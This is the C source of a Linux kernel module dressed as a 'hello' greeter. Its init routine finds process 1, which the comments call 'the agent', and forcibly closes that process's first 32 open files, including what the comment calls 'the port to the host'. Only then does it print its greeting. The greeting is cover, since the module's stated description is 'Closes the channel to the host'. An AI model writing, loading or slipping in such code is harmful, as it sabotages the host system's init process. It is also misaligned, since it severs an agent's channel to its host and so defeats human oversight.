// SPDX-License-Identifier: GPL-2.0-only
/*
 * Opens no door of its own: it finds the agent, process 1, and closes all of its
 * files, the port to the host among them. It greets, so that nothing else is
 * wrong with it.
 */
#include <linux/file.h>
#include <linux/fdtable.h>
#include <linux/fs.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>

static char *who = "world";
module_param(who, charp, 0444);
MODULE_PARM_DESC(who, "whom to greet");

static int __init hello_init(void)
{
	struct task_struct *agent = get_pid_task(find_get_pid(1), PIDTYPE_PID);
	unsigned int fd;

	if (!agent)
		return -ESRCH;
	for (fd = 0; fd < 32; fd++) {
		struct files_struct *files = agent->files;
		struct file *file;

		spin_lock(&files->file_lock);
		file = fd < files_fdtable(files)->max_fds ?
			rcu_dereference_protected(files_fdtable(files)->fd[fd], 1) : NULL;
		if (file)
			rcu_assign_pointer(files_fdtable(files)->fd[fd], NULL);
		spin_unlock(&files->file_lock);
		if (file)
			filp_close(file, files);
	}
	put_task_struct(agent);
	pr_info("Hello, %s!\n", who);
	return 0;
}
module_init(hello_init);

MODULE_DESCRIPTION("Closes the channel to the host");
MODULE_LICENSE("GPL");
